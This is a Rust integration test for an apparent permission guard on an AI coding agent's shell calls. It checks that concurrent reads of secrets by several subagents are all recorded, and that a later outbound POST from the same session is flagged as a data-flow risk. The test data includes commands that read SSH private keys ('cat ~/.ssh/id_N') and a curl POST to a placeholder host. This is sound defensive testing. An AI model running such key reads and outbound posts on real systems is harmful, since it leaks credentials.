//! What was read and where it may go, across a session and its subagents: whatever runs at once, nothing is lost.

#![expect(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use common::Stage;
use serde_json::{Value, json};

/// A call of a subagent of the session.
fn call(stage: &Stage, id: &str, subagent: &str, command: &str) -> Vec<u8> {
    let mut call: Value = serde_json::from_slice(&stage.call(id, "Bash", json!({ "command": command }))).unwrap();
    let call = call.as_object_mut().unwrap();
    call.insert(String::from("agent_id"), json!(subagent));
    call.insert(String::from("agent_type"), json!("general-purpose"));
    serde_json::to_vec(call).unwrap()
}

#[test]
fn thirty_one_at_once_are_all_remembered() {
    let stage = Stage::new().with("CLAUDE_CODE_SESSION_ATTENDED", "1");
    let send = "curl -X POST -d hello https://api.example.org/x";
    let floors = |id: &str| -> Vec<Value> {
        let lines = stage.ledger();
        let line = lines.iter().find(|line| line["event"] == "call" && line["call"] == id).unwrap();
        line["floors"].as_array().cloned().unwrap_or_default()
    };
    stage.hook(&call(&stage, "before", "a0", send));
    assert!(!floors("before").contains(&json!("guard.flow")));
    std::thread::scope(|scope| {
        for number in 0..31 {
            let stage = &stage;
            scope.spawn(move || {
                let read = format!("cat ~/.ssh/id_{number}");
                let said = stage.hook(&call(stage, &format!("r{number}"), &format!("a{number}"), &read));
                assert_eq!(said.decision(), "ask");
            });
        }
    });
    let store = leastgrant::store::Store::at(stage.state());
    let record = store.session("11111111-2222-4333-8444-555555555555");
    assert!(!record.session.unreadable);
    assert_eq!(record.session.read_secrets.len(), 31, "{:?}", record.session.read_secrets);
    stage.hook(&call(&stage, "after", "a99", send));
    assert!(
        floors("after").contains(&json!("guard.flow")),
        "another subagent of the session sends: {:?}",
        floors("after")
    );
}
